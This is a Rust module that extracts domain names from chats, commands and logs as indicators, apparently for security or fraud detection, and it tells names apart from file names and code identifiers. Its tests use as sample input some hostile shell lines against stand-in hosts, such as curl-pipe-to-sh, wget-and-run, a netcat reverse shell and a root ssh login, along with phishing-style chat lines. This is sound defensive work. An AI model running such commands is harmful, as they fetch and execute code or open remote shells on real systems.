//! Domain names: valid labels under a public suffix, where a name is meant and not a file, a version or a piece of a program.
//!
//! Half of all suffixes are words or file endings (`run.sh`, `user.name`, `System.in`), so what a bare name counts for depends on
//! where it stands: anything valid in a URL, behind an at sign, as the target of `wget` or a tunnel, or when it was defanged;
//! elsewhere only what is unlikely to be anything else. Values are lower case and punycode, without the final dot.
use super::ipv4::follows_percent;
use super::{ByteSet, Context, Extractor, Found, Needs, Text};
use crate::events::Field;
use psl::{Psl, Type};
use std::borrow::Cow;
use std::ops::Range;

/// Longest name, and longest label, bytes (RFC 1035, without the dot at the end).
const NAME_BYTES_MAX: usize = 253;
const LABEL_BYTES_MAX: usize = 63;
/// Longest name as it may be written in Unicode, bytes.
const WRITTEN_BYTES_MAX: usize = 4 * NAME_BYTES_MAX;

/// Suffixes that are file endings: a bare name that ends so is a file. Sorted, like the two below.
#[rustfmt::skip]
static FILES: &[&str] = &[
    "ac", "ad", "ag", "am", "as", "ax", "bo", "bz", "cab", "cd", "ci", "cl", "cr", "gs", "gt", "ht", "int", "java", "la", "lk", "ls",
    "lt", "md", "mk", "ml", "mm", "mo", "mov", "ms", "mt", "ne", "nu", "pid", "pl", "pm", "pn", "pp", "ps", "pub", "py", "rs", "sb", "sc",
    "sd", "sh", "si", "so", "sr", "st", "sv", "tc", "tf", "tk", "tm", "tn", "tt", "va", "vb", "vc", "vi", "zip",
];
/// Suffixes that programs and sentences end in: they count in chats only.
#[rustfmt::skip]
static MEMBERS: &[&str] = &[
    "academy", "active", "actor", "ads", "agency", "analytics", "and", "are", "army", "art", "audio", "author", "auto", "band", "bar",
    "best", "bible", "bike", "bingo", "bio", "black", "blue", "boo", "book", "bot", "box", "build", "buy", "cafe", "call", "camera",
    "camp", "car", "card", "care", "case", "cash", "cat", "center", "chat", "codes", "community", "contact", "cool", "data", "date",
    "day", "deal", "design", "direct", "do", "doc", "docs", "dog", "domains", "earth", "eat", "eco", "events", "exchange", "express",
    "fail", "fan", "farm", "fast", "film", "final", "fire", "fish", "fit", "fly", "foo", "food", "free", "fund", "game", "gift", "gold",
    "golf", "green", "guide", "guru", "here", "hiv", "home", "hot", "how", "ing", "ink", "ist", "joy", "kids", "kim", "land", "law",
    "like", "love", "ltd", "man", "map", "mba", "med", "media", "men", "menu", "moda", "moe", "mom", "moto", "name", "new", "now", "off",
    "ong", "open", "ott", "page", "pay", "pet", "phd", "photo", "pics", "pin", "pink", "play", "poker", "porn", "post", "prime", "prod",
    "prof", "qpon", "read", "red", "ren", "rich", "rip", "rocks", "safe", "sale", "save", "scot", "search", "security", "select", "sex",
    "show", "ski", "sky", "soy", "spa", "spot", "study", "style", "surf", "systems", "tab", "talk", "tax", "tel", "tips", "tools",
    "total", "town", "toys", "tube", "version", "vet", "video", "vin", "vote", "watch", "wiki", "wine", "wow", "yoga", "you", "zero",
    "zone",
];
/// Words that many real names end in: enough in a chat, and elsewhere from three labels on.
#[rustfmt::skip]
static POPULAR: &[&str] = &[
    "app", "bank", "bid", "cam", "cc", "cf", "click", "cloud", "dev", "digital", "download", "email", "fun", "group", "help", "host",
    "icu", "id", "in", "is", "life", "link", "live", "lol", "me", "mobi", "my", "network", "news", "no", "one", "pro", "re", "rest",
    "run", "services", "store", "stream", "support", "team", "tech", "to", "top", "tr", "trade", "vip", "wang", "win", "work", "works",
    "world",
];
/// What a host is often called: enough to tell `www.evil.sh` from a file.
const HOST_LABELS: &[&str] =
    &["www", "ftp", "mail", "smtp", "mx", "ns1", "ns2", "cdn", "api", "dl", "pop", "imap", "irc", "pool", "m", "static"];
/// First labels of names turned round, as Java writes them, and of things in programs.
const TURNED: &[&str] = &[
    "com", "org", "net", "edu", "gov", "io", "java", "javax", "sun", "android", "androidx", "de", "kernel", "vm", "fs", "this", "self",
    "os", "sys", "std",
];

pub(super) struct Domains;

impl Extractor for Domains {
    fn fields(&self) -> &'static [Field] {
        &[Field::Domain]
    }

    fn needs(&self) -> &'static Needs {
        const NEEDS: Needs = Needs::NOTHING.one_of(b".").any(ByteSet::LETTERS.or(ByteSet::BEYOND_ASCII));
        &NEEDS
    }

    fn extract(&self, text: &Text<'_>, found: &mut Found) {
        each(text, |range, value| {
            found.add(Field::Domain, value, text, range);
            !found.is_full()
        });
    }
}

/// Calls `note` for each name that is meant as one, until it answers no.
pub(super) fn each(text: &Text<'_>, mut note: impl FnMut(Range<usize>, &str) -> bool) {
    let bytes = text.plain.as_bytes();
    let mut from = 0;
    while let Some(dot) = memchr::memchr(b'.', &bytes[from..]).map(|at| from + at) {
        let run = run_around(text.plain, from, dot);
        from = run.end;
        if run.len() > WRITTEN_BYTES_MAX {
            continue;
        }
        if text.plain[run.clone()].is_ascii() {
            if !in_run(text, run, &mut note) {
                return;
            }
            continue;
        }
        // Scripts that put no blanks between words: a name in ASCII ends where they begin.
        let mut start = run.start;
        let mut before = '.';
        for (at, char) in text.plain[run.clone()].char_indices() {
            if is_cut(before, char) || is_cut(char, before) {
                let piece = std::mem::replace(&mut start, run.start + at)..run.start + at;
                if !in_run(text, piece, &mut note) {
                    return;
                }
            }
            before = char;
        }
        if !in_run(text, start..run.end, &mut note) {
            return;
        }
    }
}

fn is_cut(unspaced: char, ascii: char) -> bool {
    unspaced >= '\u{2e80}' && ascii.is_ascii_alphanumeric()
}

/// The longest stretch around `dot`, from `from` on, of characters that names consist of.
fn run_around(text: &str, from: usize, dot: usize) -> Range<usize> {
    let start = text[from..dot].char_indices().rev().take_while(|&(_, char)| is_name_char(char)).last().map_or(dot, |(at, _)| from + at);
    let length = text[dot..].find(|char| !is_name_char(char)).unwrap_or(text.len() - dot);
    start..dot + length
}

pub(super) fn is_name_char(char: char) -> bool {
    match char {
        'a'..='z' | 'A'..='Z' | '0'..='9' | '-' | '.' | '_' => true,
        '\0'..='\x7f' => false,
        // Vowel signs and the like are no letters, and names have them.
        '\u{300}'..='\u{36f}' | '\u{900}'..='\u{dff}' => true,
        char => char.is_alphanumeric(),
    }
}

/// Looks for a name in a run; false when no more shall be looked for.
fn in_run(text: &Text<'_>, mut run: Range<usize>, note: &mut impl FnMut(Range<usize>, &str) -> bool) -> bool {
    let bytes = text.plain.as_bytes();
    // A user before an at sign; a call, an element, a setting.
    let goes_on = match bytes.get(run.end) {
        Some(b'@') => true,
        Some(b'(' | b'[' | b'=' | b'{') => matches!(text.context, Context::Command | Context::Other),
        _ => false,
    };
    while !run.is_empty() && bytes[run.end - 1] == b'.' {
        run.end -= 1;
    }
    if follows_hex(bytes, &run) {
        run.start += 2;
    }
    // `*.example.com`, and nothing else that begins with a dot.
    if !run.is_empty() && bytes[run.start] == b'.' {
        if run.start == 0 || bytes[run.start - 1] != b'*' {
            return true;
        }
        run.start += 1;
    }
    if run.len() < 4 || goes_on {
        return true;
    }
    let written = &text.plain[run.clone()];
    let Some(evidence) = evidence(text, &run) else {
        return true;
    };
    if !may_be_name(written) {
        return true;
    }
    let Some(value) = name(written) else {
        return true;
    };
    if evidence || is_likely(text, &run, written, &value) {
        return note(run, &value);
    }
    true
}

/// `%2Fexample.com`: the escape before a name is no part of it.
fn follows_hex(bytes: &[u8], run: &Range<usize>) -> bool {
    run.len() > 2 && follows_percent(bytes, run.start + 2)
}

/// Whether what stands before makes a name certain; nothing when it makes one impossible.
fn evidence(text: &Text<'_>, run: &Range<usize>) -> Option<bool> {
    let bytes = text.plain.as_bytes();
    let before = run.start.checked_sub(1).map_or(b' ', |at| bytes[at]);
    let certain =
        text.context == Context::Address || text.is_fetched(run.start) || (text.is_defanged(run) && text.context != Context::Command);
    match before {
        b'/' => {
            let slashes = bytes[..run.start].ends_with(b"//") && !bytes[..run.start].ends_with(b"///");
            // `https://example.com`, `//example.com/x`; anything else is a path.
            let is_authority =
                slashes && run.start.checked_sub(3).is_none_or(|at| matches!(bytes[at], b':' | b' ' | b'"' | b'\'' | b'=' | b'('));
            is_authority.then_some(true)
        }
        b'\\' => (run.start < 2 || matches!(bytes[run.start - 2], b' ' | b'\\' | b'"')).then_some(certain),
        // An e-mail address or the target of `ssh`, if somebody stands before the sign.
        b'@' => {
            let named = run.start >= 2
                && (bytes[run.start - 2].is_ascii_alphanumeric() || matches!(bytes[run.start - 2], b'_' | b'-' | b'+' | b'%'));
            // A password is not an address for having an at sign in the middle.
            Some(certain || (named && (text.context != Context::Other || bytes.get(run.end).is_none_or(|&byte| byte != b'!'))))
        }
        // In TLS the length of a name stands before it, and may look like anything.
        b'$' | b'#' | b'~' | b'^' => (run.start >= 2 && !(b' '..=b'~').contains(&bytes[run.start - 2])).then_some(certain),
        _ => Some(certain),
    }
}

/// Whether a bare name is more likely a name than anything else.
fn is_likely(text: &Text<'_>, run: &Range<usize>, written: &str, value: &str) -> bool {
    let bytes = text.plain.as_bytes();
    let labels = || value.split('.');
    let count = labels().count();
    let (Some(first), Some(last)) = (labels().next(), labels().next_back()) else {
        return false;
    };
    // `Hello.My`, `Foo.Bar`: a sentence or a program. `EXAMPLE.COM` and `Example.com` are names.
    let ending = written.rsplit('.').next().unwrap_or("");
    if ending.starts_with(|char: char| char.is_uppercase()) && ending.chars().skip(1).any(char::is_lowercase) {
        return false;
    }
    let is_in = |list: &[&str]| list.binary_search(&last).is_ok();
    let hostly = count > 2 && labels().rev().skip(2).any(|label| HOST_LABELS.contains(&label));
    if hostly {
        return true;
    }
    if count > 2 && TURNED.contains(&first) {
        return false;
    }
    let in_path = bytes.get(run.end) == Some(&b'/') && bytes.get(run.end + 1).is_some_and(|byte| byte.is_ascii_alphanumeric());
    let registrable = value.rsplit('.').nth(1).unwrap_or("");
    // A number before the suffix is part of a version, save where numbers are popular as names.
    if registrable.bytes().all(|byte| byte.is_ascii_digit()) && (registrable.len() < 3 || !matches!(last, "com" | "cn" | "net" | "org")) {
        return false;
    }
    // Nobody sends a troff macro or a C++ source in a chat, but many a link of Tokelau's.
    if is_in(FILES) && !(text.context == Context::Chat && matches!(last, "cc" | "tk" | "zip")) {
        return false;
    }
    let long_enough = in_path || registrable.len() > 1;
    match text.context {
        Context::Chat => long_enough,
        _ if is_in(MEMBERS) => false,
        _ if is_in(POPULAR) => count > 2,
        _ => long_enough,
    }
}

/// Cheap checks that rule out nearly everything before anything is looked up.
fn may_be_name(written: &str) -> bool {
    let bytes = written.as_bytes();
    let ending = &bytes[memchr::memrchr(b'.', bytes).map_or(0, |dot| dot + 1)..];
    let is_suffix = ending.len() >= 2
        && (ending.iter().all(|byte| byte.is_ascii_alphabetic() || *byte >= 0x80)
            || ending.get(..4).is_some_and(|start| start.eq_ignore_ascii_case(b"xn--")));
    is_suffix && bytes[0] != b'-' && !written.contains("..")
}

/// The canonical form of a domain name under a public suffix; nothing for anything else.
pub(super) fn name(written: &str) -> Option<String> {
    let written = written.strip_suffix('.').unwrap_or(written);
    if written.len() > WRITTEN_BYTES_MAX || !may_be_name(written) {
        return None;
    }
    let ascii = if written.is_ascii() { written.to_ascii_lowercase() } else { idna::domain_to_ascii(written).ok()? };
    let is_label = |label: &str| {
        let bytes = label.strip_prefix('_').unwrap_or(label).as_bytes();
        !bytes.is_empty()
            && label.len() <= LABEL_BYTES_MAX
            && bytes.iter().all(|&byte| byte.is_ascii_alphanumeric() || byte == b'-')
            && bytes[0] != b'-'
            && bytes[bytes.len() - 1] != b'-'
    };
    if ascii.len() > NAME_BYTES_MAX || !ascii.contains('.') || !ascii.split('.').all(is_label) {
        return None;
    }
    let unicode = if ascii.contains("xn--") {
        let (unicode, outcome) = idna::domain_to_unicode(&ascii);
        outcome.ok()?;
        Cow::Owned(unicode)
    } else {
        Cow::Borrowed(ascii.as_str())
    };
    // What somebody registered has no underscores; names below it may (`_dmarc`).
    let is_name = match psl::List.domain(unicode.as_bytes()) {
        Some(domain) => domain.suffix().is_known() && !domain.as_bytes().contains(&b'_'),
        // A suffix itself is a host only where its owner hands out names below it.
        None => psl::List.suffix(unicode.as_bytes())?.typ() == Some(Type::Private),
    };
    is_name.then_some(ascii)
}

/// Whether this label alone is a suffix known to the list.
pub(super) fn is_suffix(label: &[u8]) -> bool {
    label.len() >= 2
        && label.len() <= LABEL_BYTES_MAX
        && psl::List.suffix(&label.to_ascii_lowercase()).is_some_and(|suffix| suffix.is_known())
}

#[cfg(test)]
mod tests {
    use super::super::Context::*;
    use super::super::tests::check;
    use super::*;

    #[test]
    fn names_are_told_from_files_versions_sentences_and_programs() {
        let label = "a".repeat(64);
        let (long, longest) = (format!("{label}.com"), format!("{}.com", "ab.".repeat(90)));
        check(
            Field::Domain,
            &[
                (Other, "example.com", &["example.com"]),
                (Other, "EXAMPLE.COM", &["example.com"]),
                (Other, "Example.com.", &["example.com"]),
                (Other, "a.b.c.example.co.uk", &["a.b.c.example.co.uk"]),
                (Other, "example.com:443", &["example.com"]),
                (Other, "(example.com), \"example.org\"; 'example.net'!", &["example.com", "example.org", "example.net"]),
                (Other, "<b>example.com</b>", &["example.com"]),
                (Other, "{\"host\":\"example.com\"}", &["example.com"]),
                (Other, "Host: example.com\\r\\nUser-Agent: curl", &["example.com"]),
                (Other, "b'\\x00\\x0cwww.evil.com\\x00\\x17'", &["www.evil.com"]),
                (Other, "\\x00)\\x00'\\x00\\x00$account.evil.com\\x00", &["account.evil.com"]),
                (Other, "CONNECT example.com:443 HTTP/1.1", &["example.com"]),
                (Other, "*.example.com", &["example.com"]),
                (Other, "_dmarc.example.com", &["_dmarc.example.com"]),
                (Other, "xn--bcher-kva.de", &["xn--bcher-kva.de"]),
                (Other, "bücher.de", &["xn--bcher-kva.de"]),
                (Other, "Bücher.DE", &["xn--bcher-kva.de"]),
                (Other, "яндекс.рф", &["xn--d1acpjx3f.xn--p1ai"]),
                (Other, "аррӏе.com", &["xn--80ak6aa92e.com"]),
                (Other, "例え.jp", &["xn--r8jz45g.jp"]),
                (Other, "xn--a.com", &[]),
                (Chat, "访问example.com谢谢", &["example.com"]),
                (Chat, "你好。example.com", &["example.com"]),
                (Chat, "ｅｘａｍｐｌｅ．ｃｏｍ", &["example.com"]),
                (Chat, "𝐞𝐱𝐚𝐦𝐩𝐥𝐞.com", &["example.com"]),
                (Chat, "exam\u{ad}ple.com", &["example.com"]),
                (Chat, "visit sbi-kyc.in now", &["sbi-kyc.in"]),
                (Chat, "go to kyc-update.online/login", &["kyc-update.online"]),
                (Chat, "t.me/abc", &["t.me"]),
                (Chat, "bit.ly/3abc", &["bit.ly"]),
                (Chat, "Your account is blocked.Call now.My name is Raj.In case", &[]),
                (Chat, "visit example dot com today", &["example.com"]),
                (Chat, "the dot com boom, connect the dot to it", &[]),
                (Chat, "see run.sh and readme.md", &[]),
                (Other, "example[.]com", &["example.com"]),
                (Other, "example[.com example.]org", &["example.com", "example.org"]),
                (Other, "example(dot)com example {dot} net", &["example.com", "example.net"]),
                (Other, "short[.]is evil[.]sh", &["short.is", "evil.sh"]),
                (Other, "http://evil.sh/x http://evil.py:80", &["evil.sh", "evil.py"]),
                (Other, "//evil.zip/x", &["evil.zip"]),
                (Other, "a@evil.sh", &["evil.sh"]),
                (Other, "www.evil.sh ftp.evil.pl", &["www.evil.sh", "ftp.evil.pl"]),
                (Other, "evil.duckdns.org duckdns.org", &["evil.duckdns.org", "duckdns.org"]),
                (Other, "http://evil.onion/", &["evil.onion"]),
                (Other, "1.0.0.127.in-addr.arpa", &["1.0.0.127.in-addr.arpa"]),
                (Other, "163.com 360.cn", &["163.com", "360.cn"]),
                (Other, "?u=example.com&v=1", &["example.com"]),
                (Other, "x%2Fexample.com%2Fy", &["example.com"]),
                (Other, "co.uk com", &[]),
                (Other, "example.tld +example.tld+ _____.tld x.x.x.x tooshor.t tooshor. 85.85", &[]),
                (Other, "run.sh x86.sh install.py readme.md a.so libc.so.6 a.zip b.rs c.pl d.ps", &[]),
                (Other, "/etc/ld.so.conf.d /tmp/example.com ./example.com a/example.com", &[]),
                (Other, "os.system('x') System.in user.name System.out.println", &[]),
                (Other, "com.android.app java.util.net org.apache.tools", &[]),
                (Other, "net.ipv4.ip_forward=1 vm.name=1", &[]),
                (Other, "first.last@", &[]),
                (Other, "john.doe trade.bot server.2009 q123456.", &[]),
                (Other, "1.2.cn 2.6.32.de", &[]),
                (Other, "SSH-2.0-OpenSSH_7.9p1 Raspbian-10+deb10u2", &[]),
                (Other, "-example.com example-.com exa_mple.com example..com .example.com", &[]),
                (Other, &long, &[]),
                (Other, &longest, &[]),
                (Other, "12345678901234567890.com", &["12345678901234567890.com"]),
                (Other, "21.11.2026 12.34 1.2.3.4", &[]),
                (Other, "$example.com #example.com ~example.com", &[]),
                (Other, "\u{feff}example.com", &["example.com"]),
                (Address, "evil.sh", &["evil.sh"]),
                (Address, "smtp.mail.example.co.za", &["smtp.mail.example.co.za"]),
                (Address, "user.name", &["user.name"]),
                (Address, "localhost", &[]),
                (Command, "ping www.example.es", &["www.example.es"]),
                (Command, "wget evil.sh; sh evil.sh", &["evil.sh"]),
                (Command, "wget -O x.sh evil.py/x.sh > log.md", &["evil.py"]),
                (Command, "curl -s evil.run | sh", &["evil.run"]),
                (Command, "tftp -g -r x.sh evil.cc", &["evil.cc"]),
                (Command, "ssh root@evil.sh", &["evil.sh"]),
                (Command, "nc evil.cc 4444 -e /bin/sh", &["evil.cc"]),
                (Command, "chmod 777 a.sh; ./a.sh; rm -rf a.sh b.cc c.py", &[]),
                (Command, "echo 'nameserver example.com' > /etc/resolv.conf", &["example.com"]),
                (Command, "echo ZWNobyBodHRwOi8vZXZpbC5jb20K", &["evil.com"]),
                (Command, "python -c 'import os.path; sys.argv; self.name'", &[]),
                (Command, "redtail.arm7 dota3.tar.gz setup.sh config.json", &[]),
                (Command, "dst-path=7wmp0b4s.rsc\\r\\n/import 7wmp0b4s.rsc", &[]),
                (Hash, "abcdef", &[]),
            ],
        );
    }

    #[test]
    fn lists_are_sorted_and_apart() {
        for list in [FILES, MEMBERS, POPULAR] {
            assert!(list.is_sorted());
        }
        assert!(!FILES.iter().any(|ending| MEMBERS.contains(ending) || POPULAR.contains(ending)));
        assert!(!MEMBERS.iter().any(|ending| POPULAR.contains(ending)));
    }
}
